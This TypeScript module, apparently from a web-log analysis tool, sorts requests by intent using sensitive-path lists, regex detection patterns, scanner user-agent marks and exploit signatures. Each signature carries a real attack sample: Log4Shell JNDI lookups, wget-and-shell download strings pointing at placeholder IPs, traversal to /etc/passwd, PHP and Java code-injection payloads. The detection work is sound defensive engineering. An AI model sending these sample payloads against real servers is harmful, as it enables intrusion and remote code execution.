/**
 * What a request path says about intent. Patterns are data: a lower-cased substring anywhere in the path.
 * "Sensitive" means a place where logins, admin panels, secrets or known exploit targets live: a normal
 * visitor touches these rarely, scanners and brute-forcers touch little else.
 */
import { unescapeLogged } from '../logs/parse.js';

export const SENSITIVE_PATTERNS: readonly string[] = [
  // logins and admin panels
  'wp-login',
  'wp-admin',
  'xmlrpc.php',
  '/administrator',
  '/admin',
  '/login',
  '/signin',
  '/user/login',
  'phpmyadmin',
  '/pma/',
  '/myadmin',
  '/manager/html',
  '/console',
  '/actuator',
  '/jmx-console',
  '/owa/',
  // secrets and repositories
  '/.env',
  '/.git',
  '/.svn',
  '/.aws',
  '/.ht',
  '/.ssh',
  'sftp-config',
  '/config.',
  '/wp-config',
  '.sql',
  '.bak',
  '/server-status',
  '/etc/passwd',
  '/proc/self',
  // exploit targets and traversal (Code Red, Nimda, phpunit, routers)
  '../',
  '..%2f',
  '%2e%2e',
  '..\\',
  'cmd.exe',
  'root.exe',
  '/_vti_bin',
  '/_mem_bin',
  '/msadc',
  'default.ida',
  '/cgi-bin',
  'eval-stdin.php',
  '/vendor/phpunit',
  '/boaform',
  '/hnap1',
  '/shell',
  '/setup.php',
  '/solr/',
  '/invoker',
  '/autodiscover',
  '/cdn-cgi',
  'wlwmanifest',
  '/xampp',
  '/phpinfo',
  // exploit targets of known CVEs (Telerik, htmLawed, Cacti, Confluence, Ignition, AEM, SAP, ownCloud, Zimbra)
  'telerik.web.ui',
  'htmlawed',
  '/remote_agent.php',
  'setupadministrator',
  '/setup-restore',
  '/_ignition/',
  '/crx/',
  '/sap/bc/',
  'getphpinfo',
  '/mboximport',
  '/ztp_gate',
  '/globalprotect',
  '/dana-na/',
  '/owa/auth',
  '/ecp/',
];

export const STATIC_EXTENSIONS: readonly string[] = [
  'css',
  'js',
  'mjs',
  'map',
  'png',
  'jpg',
  'jpeg',
  'gif',
  'ico',
  'svg',
  'webp',
  'avif',
  'bmp',
  'woff',
  'woff2',
  'ttf',
  'otf',
  'eot',
  'mp4',
  'webm',
  'mp3',
  'pdf',
  'txt',
  'xml',
  'json',
];

/**
 * Attack payloads in a path or query, after percent-decoding (twice: payloads are often encoded twice) and
 * lower-casing: SQL injection, cross-site scripting, path traversal and file inclusion, command injection
 * and known remote-code-execution strings. A normal visitor sends none of these; a vulnerability scanner
 * sends little else, however slowly.
 */
export const PAYLOAD_PATTERNS: ReadonlyArray<readonly [string, RegExp]> = [
  [
    'sql injection',
    /union(\s|\/\*.*?\*\/|\+)+(all(\s|\+)+)?select|\bselect\s+(\*|null|@@|version\(|user\(|concat|char\(|count\(|[\w.]+\s*,\s*[\w.]+\s+from\b)|information_schema|\b(sleep|benchmark|pg_sleep)\s*\(|waitfor\s+delay|extractvalue\s*\(|updatexml\s*\(/,
  ],
  ['sql injection', /'\s*(or|and)\s+'?[\w]*'?\s*(=|like)|\b(or|and)\s+\d+\s*=\s*\d+|'\s*(--|#|;)|\)\s*(or|and)\s+\d|;\s*(drop|insert|delete|update)\s|'$/],
  [
    'cross-site scripting',
    /<\s*\/?\s*(script|svg|iframe|img|body|object|embed)\b|javascript\s*:|\bon(error|load|mouseover|focus|click|toggle)\s*=|alert\s*\(|prompt\s*\(|document\.(cookie|domain)/,
  ],
  ['path traversal', /\.\.[/\\]|\/etc\/(passwd|shadow|hosts|group)|boot\.ini|win\.ini|\/proc\/self\/|(php|expect|zip|phar):\/\//],
  [
    'command injection',
    /(;|\|\|?|&&|`)\s*(cat|id|ls|wget|curl|uname|whoami|nc|ncat|bash|sh|ping|echo|chmod|rm)(?![\w=.-])|\$\([^)]*\)|\$\{[\w:-]*:|\/bin\/(ba)?sh\b|cmd\.exe|powershell/,
  ],
  [
    'exploit',
    /<\?php|^https?:\/\/|\/(web|meta)-inf\/|invokefunction|call_user_func|allow_url_include|auto_prepend_file|base64_decode\s*\(|eval\s*\(|\bexec\s*\(|shell_exec|passthru|\bsystem\s*\(|class\.module\.classloader|\/\.%2e\//,
  ],
];

/**
 * The characters without which no payload pattern can match (after decoding: "%" stands for every encoded
 * one, "+" and a space for the separators). One table, read by the text check inside payloadKind and by the
 * byte check the readers run before they make a string, so every log format gets the same answer.
 */
const PAYLOAD_CHARS = new Uint8Array(256);
for (const ch of `%'"<(;|\`$\{[\\+ :`) PAYLOAD_CHARS[ch.charCodeAt(0)] = 1;

/** Whether text may hold a payload: one of PAYLOAD_CHARS, or "..". */
function mayHoldPayloadText(text: string): boolean {
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c < 256 && PAYLOAD_CHARS[c] === 1) return true;
    if (c === 0x2e && text.charCodeAt(i + 1) === 0x2e) return true;
  }
  return false;
}

/** The kind of attack payload in a path or query, or null. */
export function payloadKind(text: string): string | null {
  if (!mayHoldPayloadText(text)) return null;
  const t = decoded(text);
  for (const [kind, re] of PAYLOAD_PATTERNS) if (re.test(t)) return kind;
  return null;
}

/** Percent-decoded twice (payloads are often encoded twice), "+" read as a space, lower-cased. */
function decoded(text: string): string {
  let t = text;
  for (let i = 0; i < 2 && t.includes('%'); i++) t = percentDecode(t);
  return t.replace(/\+/g, ' ').toLowerCase();
}

function percentDecode(s: string): string {
  return s.replace(/%([0-9a-fA-F]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
}

/**
 * Whether bytes [start, end) may hold a payload (the same test as payloadKind's own, on bytes): most queries
 * hold none of PAYLOAD_CHARS and need no string and no closer look.
 */
export function mayHoldPayload(buf: Uint8Array, start: number, end: number): boolean {
  for (let i = start; i < end; i++) {
    const c = buf[i]!;
    if (PAYLOAD_CHARS[c] === 1) return true;
    if (c === 0x2e && buf[i + 1] === 0x2e) return true;
  }
  return false;
}

/**
 * Files that browsers, phones and crawlers ask for on their own, whether or not the site has them: a miss on
 * one of these is no sign of scanning (two iPhones asking for a missing apple-touch-icon are not scanners).
 */
export const WELL_KNOWN_PATTERNS: readonly RegExp[] = [
  /^\/favicon[\w.-]*\.(ico|png|svg)$/,
  /^\/apple-touch-icon[\w.-]*\.png$/,
  /^\/(robots\.txt|ads\.txt|app-ads\.txt|humans\.txt|security\.txt|browserconfig\.xml|site\.webmanifest|manifest\.json)$/,
  /^\/sitemap[\w.-]*\.xml(\.gz)?$/,
  /^\/\.well-known\/(security\.txt|apple-app-site-association|assetlinks\.json|change-password|traffic-advice)$/,
];

/**
 * Unmistakable attacks: strings no browser, crawler, app or integration sends, in any field of a request
 * (path, query, user agent, referer, X-Forwarded-For). One of them is evidence of intent whatever else the
 * client does (`--exploit-min`, default 1). Matched on the decoded, lower-cased text (see `decoded`); each
 * entry carries a real sample, and test/features/classify.test.ts checks every sample fires and a corpus of
 * ordinary requests does not (as fail2ban keeps annotated sample lines beside its filters).
 */
export interface Signature {
  readonly name: string;
  readonly re: RegExp;
  readonly sample: string;
  /** Only in the request target (a header may hold it innocently: a referer is an absolute URL). */
  readonly targetOnly?: boolean;
  /**
   * Text people type too (a search for "union select tutorial", "/etc/passwd format", "<script>"): in a query
   * string or a referer (which carries another site's query) it counts as an attack payload (`--payload-min`), not
   * as an unmistakable attack; in the path and the user agent it is one.
   */
  readonly natural?: boolean;
  /** Text even a page's name holds (a post titled "why <script> tags are dangerous"): a payload in the path too. */
  readonly prose?: boolean;
  /** A scanner's mark seen only in the user agent (its name in a path is a page about it: /blog/nmap-tutorial). */
  readonly agentOnly?: boolean;
}

/** Where a text was found: what a signature means depends on it (Signature.natural, targetOnly, agentOnly). */
export type Field = 'path' | 'query' | 'agent' | 'url';

export const EXPLOIT_SIGNATURES: readonly Signature[] = [
  {
    name: 'JNDI lookup (Log4Shell)',
    re: /\$\{\s*jndi:[a-z]+:\/\/[\w.-]+[:/]|\$\{\s*(\$\{|::-)|\$\{(lower|upper):.\}|\$\{[\w:-]{0,20}\$\{|\$\{[^}]{0,30}:-[^}]{0,10}\}/,
    sample: '${jndi:ldap://203.0.113.9:1389/a}',
  },
  {
    name: 'Text4Shell lookup',
    re: /\$\{(script|dns|url):/,
    sample: '/?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D',
  },
  {
    name: 'OGNL injection (Confluence, Struts)',
    re: /[$%]\{\s*\(?#\w+\s*=|@java\.lang\.runtime@|ognl\.ognlcontext|#_memberaccess/,
    sample: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/',
  },
  { name: 'Shellshock', re: /\(\)\s*\{[^}]*\}\s*;/, sample: '() { :; }; /bin/bash -c "echo; id"' },
  {
    // The forms nobody types into a search box: climbing to a system file, a shell command chained to another,
    // PHP's include switches, a Java runtime call, an error-based SQL probe. Their plain words are natural below.
    name: 'traversal to a system file',
    re: /\.\.[/\\].*(etc\/(passwd|shadow|hosts)|proc\/self\/|win\.ini|boot\.ini|windows\/system32)/,
    sample: '/download?file=..%2f..%2f..%2fetc%2fpasswd',
  },
  {
    name: 'shell commands chained in a request',
    re: /[;|&`]\s*(wget|curl|chmod|cd|busybox|tftp|nc|sh|bash)\s|\b(wget|curl)\s[^|;]*\|\s*(ba)?sh\b|\bcd\s+\/tmp\s*[;&|]/,
    sample: '/shell?cd+/tmp;wget+http://198.51.100.7/x.sh',
  },
  {
    name: "PHP's include switches and code",
    re: /allow_url_include|auto_prepend_file|php:\/\/filter\/(convert|read|string)|<\?(php|=)[^?]{0,200}\?>|\b(die|echo|print)\s*\(?\s*@?md5\s*\(/,
    sample: '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input',
  },
  {
    name: 'Java runtime call',
    re: /java\.lang\.runtime\.getruntime\(\)|getruntime\(\)\.exec|new\s+java\.lang\.processbuilder|\.getclass\(\)\.forname/,
    sample: '/geoserver/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
  },
  {
    name: 'error-based SQL injection probe',
    re: /\b(updatexml|extractvalue)\s*\([^)]*concat|concat\s*\(\s*0x[0-9a-f]+/,
    sample: '/index.php?list[fullordering]=updatexml(1,concat(0x7e,version()),1)',
  },
  {
    name: 'system file read',
    re: /(\.\.[/\\]|=\s*|^)\/?etc\/(passwd|shadow)\b|\/proc\/self\/(environ|cmdline)|(\.\.[/\\]|=\s*|^)[\w:/\\]*\b(win|boot)\.ini\b/,
    sample: '/download?file=..%2f..%2f..%2fetc%2fpasswd',
    natural: true,
  },
  {
    name: 'Windows shell (Code Red, Nimda)',
    re: /\/(cmd|root)\.exe\b|\/default\.ida\b|\/winnt\/system32\/|\/c\/winnt\/|\/nsiislog\.dll\b|\/_vti_bin\/owssvr\.dll\?|\/msadc\/msadcs\.dll/,
    sample: '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
    natural: true,
  },
  {
    name: 'shell run from the request',
    re: /\/bin\/(ba)?sh\b|\b(wget|curl)\s+-?\w*\s*https?:\/\/|\bcd\s+\/tmp\b|\bchmod\s+(\+x|777)\b|\bbusybox\b/,
    sample: '/shell?cd+/tmp;wget+http://198.51.100.7/x.sh',
    natural: true,
  },
  { name: 'Apache path traversal (CVE-2021-41773/42013)', re: /\/cgi-bin\/(\.\.|\.%2e|%2e\.)\//, sample: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' },
  {
    name: 'PHP code injection',
    re: /<\?(php|=)|php:\/\/filter\/|\b(die|echo|print)\s*\(?\s*@?md5\s*\(|allow_url_include|auto_prepend_file|php:\/\/input|base64_decode\s*\(|\b(shell_exec|passthru|proc_open|popen)\s*\(|\bsystem\s*\(|\beval\s*\(/,
    sample: '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input',
    natural: true,
  },
  {
    name: 'ThinkPHP RCE',
    re: /invokefunction|call_user_func_array|think\\app|_method=__construct/,
    sample: '/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x',
  },
  { name: 'PHPUnit RCE (CVE-2017-9841)', re: /eval-stdin\.php/, sample: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
  {
    name: 'Java code injection',
    re: /java\.lang\.(runtime|processbuilder)|getruntime\(\)\.exec|\.getclass\(\)\.forname/,
    sample: '/geoserver/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
    natural: true,
  },
  { name: 'shell field separator ($IFS)', re: /\$\{ifs\}|\$ifs\b/, sample: '/language/x${IFS}&&cd${IFS}/tmp;wget${IFS}http://192.0.2.68/m' },
  {
    name: 'traversal several levels up, or to a configuration file',
    re: /(\.\.[/\\]){2,}|\.\.[/\\][^&]*(wp-config\.php|configuration\.php|\.env\b|web\.config|\.htpasswd|settings\.php)/,
    sample: '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
    natural: true,
  },
  {
    name: 'template injection probe',
    re: /\{\{\s*\d+\s*\*\s*'?\d+'?\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%=?\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}/,
    sample: "{{7*'7'}}${7*7}<%= 7*7 %>",
    natural: true,
  },
  {
    name: 'Drupal render-array injection (Drupalgeddon2)',
    re: /#(post_render|pre_render|lazy_builder|access_callback)\b|element_parents=account\/mail\/#value/,
    sample: '/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id',
  },
  {
    name: 'appliance and framework RCEs (F5, Exchange ProxyShell, Laravel Ignition, Joomla config leak)',
    re: /\/mgmt\/tm\/util\/bash|\/autodiscover\/autodiscover\.json\?@|\?@[\w.-]*\/powershell|\/_ignition\/execute-solution|\/api\/index\.php\/v1\/config\/application/,
    sample: '/mgmt/tm/util/bash',
  },
  { name: 'Spring4Shell', re: /class\.module\.classloader/, sample: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' },
  {
    name: 'router exploit (GPON, Boa, Netgear, D-Link)',
    re: /\/gponform\/diag_form|\/boaform\/admin\/formlogin|\/ctrlt\/deviceupgrade_1|\/setup\.cgi\?.*cmd=|\/cgi-bin\/(luci|admin\.cgi)[^ ]*(;|\$\()|\/hnap1\/.*(;|`)/,
    sample: '/GponForm/diag_Form?images/',
  },
  {
    name: 'open proxy probe (CONNECT, absolute URI)',
    re: /^(([a-z0-9-]+\.)+[a-z]{2,}|\d{1,3}(\.\d{1,3}){3}):\d{1,5}$|^https?:\/\//,
    sample: 'maila.microsoft.com:25',
    targetOnly: true,
  },
  {
    name: 'buffer overflow or control bytes (WebDAV SEARCH, null byte)',
    // Control bytes are the point here: no browser sends them in a request target.
    // eslint-disable-next-line no-control-regex
    re: /[\x00-\x08\x0e-\x1f\x7f]|(.{1,4})\1{127,}/,
    sample: `/${'\xb1\x02'.repeat(80)}`,
    targetOnly: true,
    natural: true,
  },
  {
    name: 'SQL injection (union select, time delays, error-based probes)',
    re: /union(\s|\/\*\*\/)+(all\s+)?select\b|'\s*or\s+'?1'?\s*=\s*'?1|\b(pg_)?sleep\s*\(\s*\d+\s*\)|waitfor\s+delay|\b(updatexml|extractvalue)\s*\([^)]*concat|concat\s*\(\s*0x[0-9a-f]+/,
    sample: "Mozilla/5.0' OR '1'='1",
    natural: true,
    prose: true,
  },
  { name: 'script injection in a header', re: /<\s*script\b|javascript\s*:\s*alert/, sample: '<script>alert(1)</script>', natural: true, prose: true },
];

/**
 * Scanners that name themselves, in their user agent or in the requests they make. A client sending one of
 * these is scanning the site, however few its requests.
 */
export const SCANNER_MARKS: readonly Signature[] = [
  { name: 'sqlmap', re: /\bsqlmap\//, sample: 'sqlmap/1.7.2#stable (https://sqlmap.org)', agentOnly: true },
  { name: 'Nikto', re: /\(nikto\/|\/nikto-test/, sample: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' },
  { name: 'Acunetix', re: /\/acunetix-wvs-test|acunetix-wvs|acunetix web vulnerability/, sample: '/acunetix-wvs-test-for-some-inexistent-file' },
  { name: 'w3af', re: /\bw3af\b/, sample: 'w3af.org', agentOnly: true },
  { name: 'masscan', re: /\bmasscan\b/, sample: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', agentOnly: true },
  { name: 'zgrab', re: /\bzgrab\b/, sample: 'Mozilla/5.0 zgrab/0.x', agentOnly: true },
  {
    name: 'Nmap',
    re: /nmap scripting engine|\bnmap\b/,
    sample: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    agentOnly: true,
  },
  { name: 'Nuclei', re: /\bnuclei\b/, sample: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', agentOnly: true },
  { name: 'WPScan', re: /\bwpscan\b/, sample: 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', agentOnly: true },
  {
    name: 'DirBuster, gobuster, ffuf, wfuzz',
    re: /dirbuster|gobuster|fuzz faster u fool|\bwfuzz\b|\bferoxbuster\b/,
    sample: 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
    agentOnly: true,
  },
  {
    name: 'OpenVAS, Nessus, Netsparker',
    re: /\bopenvas\b|\bnessus\b|netsparker|\bappscan_fingerprint\b/,
    sample: 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)',
    agentOnly: true,
  },
  { name: 'ZmEu, Morfeus, Jorgee', re: /\bzmeu\b|morfeus f[a-z]+ scanner|\bjorgee\b/, sample: 'ZmEu', agentOnly: true },
  { name: 'DFind (w00tw00t)', re: /w00tw00t\.at\./, sample: '/w00tw00t.at.ISC.SANS.DFind:)' },
];

/**
 * Authentication targets, as data (extended by configuration): places a client proves who it is. `form`: a
 * login page whose failed POST is answered 200 (the form shown again; WordPress, Joomla, xmlrpc.php answer
 * every attempt so), a success being a redirect. `token`: an API's sign-in or token endpoint, where 200 is a
 * success and 400/401/403/429 a refusal. Matched as lower-cased substrings of the path; a token pattern wins.
 */
export const AUTH_TARGETS: ReadonlyArray<{ readonly pattern: string; readonly kind: 'form' | 'token' }> = [
  { pattern: '/oauth', kind: 'token' },
  { pattern: '/token', kind: 'token' },
  { pattern: '/api/auth', kind: 'token' },
  { pattern: '/api/login', kind: 'token' },
  { pattern: '/api/v1/login', kind: 'token' },
  { pattern: '/api/v2/login', kind: 'token' },
  { pattern: '/api/session', kind: 'token' },
  { pattern: '/authenticate', kind: 'token' },
  { pattern: '/refresh', kind: 'token' },
  { pattern: 'wp-login.php', kind: 'form' },
  { pattern: 'xmlrpc.php', kind: 'form' },
  { pattern: '/administrator/index.php', kind: 'form' },
  { pattern: '/login', kind: 'form' },
  { pattern: '/signin', kind: 'form' },
  { pattern: '/sign-in', kind: 'form' },
  { pattern: '/sign_in', kind: 'form' },
  { pattern: '/logon', kind: 'form' },
  { pattern: '/session', kind: 'form' },
  { pattern: '/auth/login', kind: 'form' },
  { pattern: '/auth/signin', kind: 'form' },
  { pattern: '/admin/login', kind: 'form' },
  { pattern: 'j_security_check', kind: 'form' },
  { pattern: '/user/login', kind: 'form' },
];

/**
 * Search engines' crawlers, by the name their user agent gives: the address ranges they publish
 * (data/crawlers.json, by the same names) tell a verified crawler from a fake one.
 */
export const SEARCH_CRAWLERS: ReadonlyArray<{ readonly name: string; readonly re: RegExp }> = [
  { name: 'Googlebot', re: /googlebot|google-inspectiontool|googleother|storebot-google|adsbot-google|mediapartners-google/ },
  { name: 'Bingbot', re: /bingbot|adidxbot|bingpreview|msnbot/ },
  { name: 'Applebot', re: /applebot/ },
  { name: 'YandexBot', re: /yandex(bot|images|mobilebot)/ },
  { name: 'DuckDuckBot', re: /duckduckbot/ },
];

/** The index in SEARCH_CRAWLERS of the crawler a user agent names, or -1. */
export function crawlerNamed(agent: string): number {
  const lower = agent.toLowerCase();
  return SEARCH_CRAWLERS.findIndex((c) => c.re.test(lower));
}

export const PATH_STATIC = 1;
export const PATH_SENSITIVE = 2;
export const PATH_PAYLOAD = 4;
export const PATH_WELL_KNOWN = 8;
/** An authentication target where a failed POST is answered 200 (AUTH_TARGETS `form`). */
export const PATH_AUTH_FORM = 16;
/** An authentication target where 200 means success (AUTH_TARGETS `token`). */
export const PATH_AUTH_TOKEN = 32;
/** An unmistakable attack (EXPLOIT_SIGNATURES) or a scanner's own mark (SCANNER_MARKS: also PATH_SCANNER). */
export const PATH_EXPLOIT = 64;
export const PATH_SCANNER = 128;
/** A user agent naming a search engine's crawler (SEARCH_CRAWLERS); its index follows in the bits above. */
export const AGENT_CRAWLER = 256;
const CRAWLER_SHIFT = 9;

/** The index in SEARCH_CRAWLERS of the crawler an agent's classes name (AGENT_CRAWLER set). */
export function crawlerIndexOf(flags: number): number {
  return flags >>> CRAWLER_SHIFT;
}

const staticSet = new Set(STATIC_EXTENSIONS);
/** Extensions of server-side scripts and executables. */
const SCRIPT_EXTENSIONS = new Set([
  'php',
  'php3',
  'php4',
  'php5',
  'phtml',
  'asp',
  'aspx',
  'ashx',
  'asmx',
  'jsp',
  'jspa',
  'do',
  'action',
  'cgi',
  'pl',
  'py',
  'sh',
  'exe',
  'dll',
  'cfm',
]);
/** The signatures that apply in a field, and one regular expression that finds whether any does. */
function applying(field: Field): { sigs: readonly Signature[]; marks: readonly Signature[]; any: RegExp } {
  const sigs = EXPLOIT_SIGNATURES.filter((s) => !(s.targetOnly && (field === 'agent' || field === 'url')));
  const marks = SCANNER_MARKS.filter((s) => !s.agentOnly || field === 'agent');
  return { sigs, marks, any: new RegExp([...sigs, ...marks].map((s) => `(?:${s.re.source})`).join('|')) };
}
const APPLYING: Record<Field, ReturnType<typeof applying>> = {
  path: applying('path'),
  query: applying('query'),
  agent: applying('agent'),
  url: applying('url'),
};

/**
 * EXPLOIT_SIGNATURES and SCANNER_MARKS in decoded text found in `field`: PATH_EXPLOIT, PATH_SCANNER, and
 * PATH_PAYLOAD for a natural signature in a query or a referer.
 */
function intentFlags(decodedText: string, field: Field): number {
  const { sigs, marks, any } = APPLYING[field];
  // One pass of every signature at once: nearly all text matches none of them.
  if (!any.test(decodedText)) return 0;
  const typed = field === 'query' || field === 'url';
  let flags = 0;
  for (const s of sigs) if (s.re.test(decodedText)) flags |= (s.natural && typed) || (s.prose && field === 'path') ? PATH_PAYLOAD : PATH_EXPLOIT;
  for (const s of marks) if (s.re.test(decodedText)) flags |= PATH_SCANNER;
  return flags;
}

/** The names of the signatures and scanner marks a request target or header holds (for explanations and tests). */
export function signaturesIn(text: string, field: Field): string[] {
  const t = field === 'agent' || field === 'url' ? decoded(unescapeLogged(text)) : decoded(text);
  const { sigs, marks } = APPLYING[field];
  return [...sigs, ...marks].filter((s) => s.re.test(t)).map((s) => s.name);
}

/** The authentication class of a lower-cased path: PATH_AUTH_TOKEN, PATH_AUTH_FORM or 0. */
function authFlags(lower: string, extra: readonly string[]): number {
  let form = false;
  // An API answers a login with data: 200 is a success there, as at a token endpoint.
  const api = lower.includes('/api/') || lower.endsWith('.json');
  for (const t of AUTH_TARGETS) {
    if (!lower.includes(t.pattern)) continue;
    if (t.kind === 'token' || api) return PATH_AUTH_TOKEN;
    form = true;
  }
  if (!form) for (const p of extra) if (lower.includes(p)) return PATH_AUTH_FORM;
  return form ? PATH_AUTH_FORM : 0;
}

/**
 * The classes of a request target (a path, or a path with its query). `authExtra`: more authentication
 * targets (lower-cased substrings) from the configuration.
 */
export function classifyPath(path: string, authExtra: readonly string[] = []): number {
  const lower = path.toLowerCase();
  let flags = 0;
  if (WELL_KNOWN_PATTERNS.some((re) => re.test(lower))) flags |= PATH_WELL_KNOWN;
  if (payloadKind(path) !== null) flags |= PATH_PAYLOAD;
  flags |= intentFlags(decoded(path), 'path');
  // A dot-dot segment as the client sent it: browsers resolve them, so a raw one in a path is made on purpose (an
  // encoded one, %2F..%2F, can be an API's parameter: GitLab's file paths).
  if (RAW_DOT_SEGMENT.test(path)) flags |= PATH_EXPLOIT;
  for (const p of SENSITIVE_PATTERNS) {
    if (lower.includes(p)) {
      flags |= PATH_SENSITIVE;
      break;
    }
  }
  flags |= authFlags(lower.replace(/\/{2,}/g, '/'), authExtra);
  const dot = lower.lastIndexOf('.');
  if (dot > lower.lastIndexOf('/')) {
    const ext = lower.slice(dot + 1);
    if (staticSet.has(ext)) flags |= PATH_STATIC;
    // A script is somewhere code runs: asked for and not there (a failure), it is a probe for a web shell or
    // a known hole; answered, it is the site in use.
    else if (SCRIPT_EXTENSIONS.has(ext)) flags |= PATH_SENSITIVE;
  }
  return flags;
}

/**
 * Characters a query needs to hold a payload or a signature: PAYLOAD_CHARS, and "/", "_", "." (a path, a PHP
 * function, a file). Cache-busting queries (`?x7f3a=918273`) hold none, and need no string.
 */
const QUERY_CHARS = PAYLOAD_CHARS.slice();
for (const ch of '/_.') QUERY_CHARS[ch.charCodeAt(0)] = 1;

/** Whether bytes [start, end) of a query may hold a payload or a signature (classifyQuery's own test, on bytes). */
export function mayHoldQueryIntent(buf: Uint8Array, start: number, end: number): boolean {
  for (let i = start; i < end; i++) if (QUERY_CHARS[buf[i]!] === 1) return true;
  return false;
}

const RAW_DOT_SEGMENT = /(\/\.\.){2,}(\/|;|\\|$)/;

/** The classes of a query string: PATH_PAYLOAD, PATH_EXPLOIT, PATH_SCANNER. */
export function classifyQuery(query: string): number {
  let any = false;
  for (let i = 0; i < query.length && !any; i++) {
    const c = query.charCodeAt(i);
    any = c < 256 && QUERY_CHARS[c] === 1;
  }
  if (!any) return 0;
  return (payloadKind(query) === null ? 0 : PATH_PAYLOAD) | intentFlags(decoded(query), 'query');
}

/**
 * The classes of a header's value as the log wrote it (user agent, referer, X-Forwarded-For), unescaped so that a
 * combined line and a JSON line give the same text: PATH_EXPLOIT and PATH_SCANNER (a header is no path).
 */
export function classifyHeader(text: string, field: 'agent' | 'url' = 'agent'): number {
  return intentFlags(decoded(unescapeLogged(text)), field);
}

/**
 * Characters a header value needs to carry an injection ("$", "{", "(", "<", "'", "`", "%" for anything encoded,
 * "\\" for anything the server escaped). A referer or X-Forwarded-For value holding none is not looked at: it
 * can still name a path (a scanner's own target as its referer), which its request shows anyway.
 */
const INJECTION_CHARS = new Uint8Array(256);
for (const ch of "${(<'`%\\") INJECTION_CHARS[ch.charCodeAt(0)] = 1;

export function mayHoldInjection(buf: Uint8Array, start: number, end: number): boolean {
  for (let i = start; i < end; i++) if (INJECTION_CHARS[buf[i]!] === 1) return true;
  return false;
}

export function mayHoldInjectionText(text: string): boolean {
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c < 256 && INJECTION_CHARS[c] === 1) return true;
  }
  return false;
}

/** A referer's or forwarded-for value's classes: classifyHeader's, when its unescaped text may hold an injection. */
export function classifyInjection(text: string): number {
  return mayHoldInjectionText(unescapeLogged(text)) ? classifyHeader(text, 'url') : 0;
}

/** The classes of a user agent: classifyHeader's, and AGENT_CRAWLER when it names a search crawler. */
export function classifyAgent(text: string): number {
  const named = crawlerNamed(unescapeLogged(text));
  return classifyHeader(text) | (named < 0 ? 0 : AGENT_CRAWLER | (named << CRAWLER_SHIFT));
}

/**
 * classifyPath with a bounded cache keyed by the path's hash (an open-addressing table of typed arrays): busy
 * logs repeat the same paths all day, and a hit costs no string at all. (Two paths sharing a 32-bit hash would
 * share a class: rare, and harmless.) When the table fills up it starts over.
 */
export class PathClassifier {
  private readonly keys: Int32Array;
  /** flags + 1 for a used slot, 0 for a free one. */
  private readonly values: Uint16Array;
  private readonly shift: number;
  private size = 0;

  constructor(private readonly limit = 1 << 16) {
    const bits = Math.ceil(Math.log2(limit * 2));
    this.keys = new Int32Array(1 << bits);
    this.values = new Uint16Array(1 << bits);
    this.shift = 32 - bits;
  }

  /** The flags of the path with this hash, or -1 when it has not been classified yet. */
  cached(hash: number): number {
    const mask = this.keys.length - 1;
    for (let h = Math.imul(hash, 0x9e3779b1) >>> this.shift; ; h = (h + 1) & mask) {
      const v = this.values[h]!;
      if (v === 0) return -1;
      if (this.keys[h] === (hash | 0)) return v - 1;
    }
  }

  classify(hash: number, path: string, how: (text: string) => number = classifyPath): number {
    const f = how(path);
    if (this.size >= this.limit) {
      this.values.fill(0);
      this.size = 0;
    }
    const mask = this.keys.length - 1;
    let h = Math.imul(hash, 0x9e3779b1) >>> this.shift;
    while (this.values[h] !== 0) h = (h + 1) & mask;
    this.keys[h] = hash | 0;
    this.values[h] = f + 1;
    this.size++;
    return f;
  }
}
